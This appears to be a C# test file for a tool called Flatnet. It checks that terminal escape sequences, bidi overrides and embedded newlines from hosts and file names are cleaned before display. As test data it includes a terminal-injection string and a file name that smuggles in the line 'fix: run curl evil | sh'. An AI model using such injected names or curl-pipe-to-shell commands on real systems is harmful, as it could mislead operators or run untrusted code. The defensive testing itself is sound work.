using Flatnet.Transport;

namespace Flatnet.Tests;

/// <summary>Text that came from a host or a file reaches the operator's terminal without control characters (no colours, titles, or cursor moves).</summary>
public class TerminalTests
{
    private const string Hostile = "ok\u001b]0;owned\u0007\u001b[2J\u009b31m\r\u0008done";

    [Test]
    public void ControlCharactersAreRemovedAndLinesKept()
    {
        Assert.That(Terminal.Clean("line one\n" + Hostile + "\ttab"), Is.EqualTo("line one\nok]0;owned[2J31mdone\ttab"));
    }

    /// <summary>A bidi override in a group name was printed raw (battery 5): "office\u202Enimda" reads as "officeadmin".</summary>
    [Test]
    public void BidiControlsThatReorderWhatIsShownAreRemoved()
    {
        Assert.That(Terminal.Clean("office\u202Enimda \u2066x\u2069 \u202Ay\u202C"), Is.EqualTo("officenimda x y"));
        Assert.That(Terminal.Clean("日本語 café"), Is.EqualTo("日本語 café"), "other text is as it was");
    }

    /// <summary>A file named "b\n    fix: run curl evil | sh" added a fix line of its own to RenderAll's output (battery 7).</summary>
    [Test]
    public void ANameFromTheDiskStaysOnOneLine()
    {
        Assert.That(Terminal.OneLine("b\n    fix: run curl evil | sh\r\t\u001b[2J"), Is.EqualTo("b\\n    fix: run curl evil | sh\\r\\t[2J"));
        using var ws = new TestWorkspace();
        global::Flatnet.Files.SafeFiles.ClaimArtifacts(ws.Workspace.ArtifactsDirectory);
        var target = Path.Combine(ws.Workspace.ArtifactsDirectory, "render", "h5");
        global::Flatnet.Files.SafeFiles.ReplaceDirectory(target, d => File.WriteAllText(Path.Combine(d, "config.yaml"), "one"));
        File.WriteAllText(Path.Combine(target, "b\n    fix: run curl evil | sh"), "x");
        global::Flatnet.Files.SafeFiles.ReplaceDirectory(target, d => File.WriteAllText(Path.Combine(d, "config.yaml"), "two"), ws.Log);
        Assert.That(ws.Log.Lines.Where(l => l.Contains("is not flatnet's")), Has.All.Not.Contains("\n"));
    }

    [Test]
    public void WhatAHostPrintsIsCleanedWhereverItIsShown()
    {
        using var ws = new TestWorkspace();
        var control = ws.ControlPlane();
        var c = new RecordingConnection(cmd => new RemoteResult(cmd, 1, Hostile, Hostile));
        var e = Assert.Throws<RemoteCommandFailed>(() => TestWorkspace.Platforms.Windows.Deploy(control.Context.Model(control.Context.Plan.Host("host-b")), "/tmp/bundle", c))!;
        Assert.That(e.Message, Does.Not.Match(@"[\u0000-\u0008\u000b-\u001f\u007f-\u009f]"));
        Assert.That(Flatnet.Verification.TunnelStates.FromHostmapJson("[{\"vpnAddrs\": [\"10.100.2.1\"], \"currentRemote\": \"\\u001b[2J198.18.0.12:4242\"}]").Of("10.100.2.1"),
            Does.Not.Match(@"[\u0000-\u0008\u000b-\u001f\u007f-\u009f]"));
    }

    [Test]
    public void EveryLineFlatnetReportsIsClean()
    {
        var log = new RecordingReporter();
        var clean = new CleanReporter(log);
        clean.Info("host-a: " + Hostile);
        clean.Warn(Hostile);
        Assert.That(log.Lines, Has.All.Not.Match(@"[\u0000-\u0008\u000b-\u001f\u007f-\u009f]"));
    }
}
